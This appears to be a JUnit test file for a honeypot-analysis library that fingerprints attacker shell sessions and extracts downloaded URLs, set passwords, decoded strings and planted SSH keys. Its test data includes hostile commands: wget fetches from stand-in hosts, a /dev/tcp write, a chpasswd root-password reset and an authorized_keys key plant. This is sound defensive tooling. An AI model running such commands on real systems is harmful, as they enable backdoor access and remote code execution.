package io.github.cowriekit.analysis.internal.playbook;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.analysis.Analysis;
import io.github.cowriekit.analysis.Sessions;
import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.assessment.PlantedKey;
import io.github.cowriekit.model.assessment.Playbook;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class PlaybookTest {
    private static final Analysis ANALYSIS = Analysis.standard();
    /** Made for these tests with ssh-keygen; nobody has the private half. */
    private static final String KEY = "AAAAC3NzaC1lZDI1NTE5AAAAICtjZX349OGr8zNOMNoKKWymlg7bkaRCXOvmnFp+eEl+";

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "cd   /tmp ; ls                      ! cd /tmp ; ls",
                "wget http://192.0.2.7/a.sh          ! wget http://198.51.100.9:81/other/b.sh?x=1",
                "wget -qO - 192.0.2.7/csx/perlNIK    ! wget -qO - evil.example/p",
                "ping 192.0.2.7                      ! ping 198.51.100.1",
                "echo x > /dev/tcp/[2001:db8::1]:80  ! echo x > /dev/tcp/[2001:db8::2]",
                "echo \"root:J9uoMrirSMHb\"|chpasswd|bash ! echo \"root:aeUVqyLmI0Sy\"|chpasswd|bash",
                "echo -e \"\\x6F\\x6B\\x6F\\x6B\\x6F\\x6B\" ! echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\"",
                "/bin/busybox FGZNH                  ! /bin/busybox DTDZP",
                "/tmp/yjRvsSGHBE                     ! /tmp/xlxeavrjsw",
                "echo SSHCHK_0123456789ab_BEGIN      ! echo SSHCHK_ba9876543210_BEGIN",
                "kill 12345                          ! kill 678",
                "md5 0123456789abcdef0123456789abcdef ! md5 ffffffffffffffff0123456789abcdef",
            })
    void givesTheSameScriptTheSameKeys(String command, String other) {
        assertThat(of(command).sequenceKey()).isEqualTo(of(other).sequenceKey());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "LS                 ! ls",
                "chmod 777 x        ! chmod 755 x",
                "cat /etc/passwd    ! cat /etc/shadow",
                "cat /usr/share/TelegramDesktop ! cat /usr/share/applications",
                "ls /dev/tty123     ! ls /dev/tty456",
                "nc -p 4444 x       ! nc -p 5555 x",
                "kill 12            ! kill 13",
                "busybox TOUCH      ! busybox CHMOD",
            })
    void keepsWhatIsPartOfTheScript(String command, String other) {
        assertThat(of(command).sequenceKey()).isNotEqualTo(of(other).sequenceKey());
    }

    @Test
    void tellsScriptsThatShuffleByTheirSet() {
        assertThat(of("id", "w").sequenceKey()).isNotEqualTo(of("w", "id").sequenceKey());
        assertThat(of("id", "w").setKey()).isEqualTo(of("w", "id", "w").setKey());
        assertThat(of("ls -la; sudo cat x").verbKey())
                .isEqualTo(of("ls /; A=b cat y").verbKey());
        assertThat(of("id\nw")).isEqualTo(of("id", "w"));
        assertThat(of().sequenceKey()).isNull();
    }

    @Test
    void takesWhatAPasswordProgramAskedForAsAWrittenCredential() {
        Session session = Sessions.ran()
                .commands(List.of(
                        new Command(Sessions.START, "passwd", false, null),
                        new Command(Sessions.START, "N3wP4ss!x", false, "passwd", Command.ANSWER),
                        new Command(Sessions.START, "N3wP4ss!x", false, "passwd", Command.ANSWER),
                        new Command(Sessions.START, "cat > /tmp/d", false, null),
                        new Command(Sessions.START, "wget http://192.0.2.7/a.sh", false, "cat", Command.STDIN)))
                .build();
        Playbook playbook = of(session);

        assertThat(playbook.writtenCredentials()).containsExactly("N3wP4ss!x");
        assertThat(playbook.urls()).containsExactly("http://192.0.2.7/a.sh");
    }

    @Test
    void keepsWhatItTakesOut() {
        Playbook playbook = of(
                "wget http://192.0.2.7/a.sh; curl -O evil.example/b",
                "echo \"root:J9uoMrirSMHb\"|chpasswd|bash",
                "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\"");

        assertThat(playbook.urls()).containsExactly("http://192.0.2.7/a.sh", "evil.example/b");
        assertThat(playbook.writtenCredentials()).containsExactly("root:J9uoMrirSMHb");
        assertThat(playbook.decodedWords()).containsExactly("auth_ok");
        assertThat(playbook.lines()).isEqualTo(3);
    }

    @Test
    void readsPlantedKeys() {
        Playbook playbook = of("id", "echo \"ssh-ed25519 " + KEY + " eve@evil\" >> ~/.ssh/authorized_keys");
        PlantedKey key = playbook.keys().get(0);

        assertThat(playbook.keys()).hasSize(1);
        assertThat(key.type()).isEqualTo("ssh-ed25519");
        assertThat(key.bits()).isEqualTo(256);
        assertThat(key.comment()).isEqualTo("eve@evil");
        assertThat(key.command()).isEqualTo(1);
        assertThat(key.fingerprint()).isEqualTo("SHA256:LTa/wOTXNbsxWEBhpNymSTlc8jIrosRXTQ+pXYVZYIQ");
        assertThat(playbook.sequenceKey())
                .isEqualTo(of("id", "echo \"ssh-ed25519 " + KEY + "\" >> ~/.ssh/authorized_keys")
                        .sequenceKey());
    }

    @Test
    void keepsAKeyThatCannotBeDecoded() {
        PlantedKey key = of("echo ssh-rsa " + "A".repeat(41) + " x").keys().get(0);

        assertThat(key.fingerprint()).isNull();
        assertThat(key.bits()).isNull();
    }

    @Test
    void saysOfCommonFilesWhatTheyAre() {
        assertThat(of(Sessions.ran()
                                .downloads(List.of(
                                        file("01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b")))
                                .build())
                        .files())
                .singleElement()
                .satisfies(known -> {
                    assertThat(known.content()).isEqualTo("one newline");
                    assertThat(known.trivial()).isTrue();
                });
    }

    @Test
    void standsWhatAttackersSend() {
        String[] hostile = {
            "echo ".repeat(20_000) + "| passwd",
            "-----BEGIN RSA PRIVATE KEY-----".repeat(5_000),
            "\\x41".repeat(50_000),
            "A".repeat(200_000),
            "1.2.3.".repeat(30_000),
            "a.".repeat(50_000) + "wget",
            " wget" + " a-b.c".repeat(20_000),
            "/".repeat(100_000),
            "\"'`(".repeat(20_000),
            ";|&".repeat(30_000),
            "ssh-rsa ".repeat(20_000),
            "\0\r\u001b[2J\ud800\u202e"
        };

        Playbook playbook = of(hostile);

        assertThat(playbook.sequenceKey()).hasSize(64);
    }

    private static Download file(String sha256) {
        return Download.builder(FileOrigin.REDIRECT).sha256(sha256).build();
    }

    private static Playbook of(String... commands) {
        return of(Sessions.ran(commands).build());
    }

    private static Playbook of(Session session) {
        return Objects.requireNonNull(ANALYSIS.assess(session).playbook());
    }
}
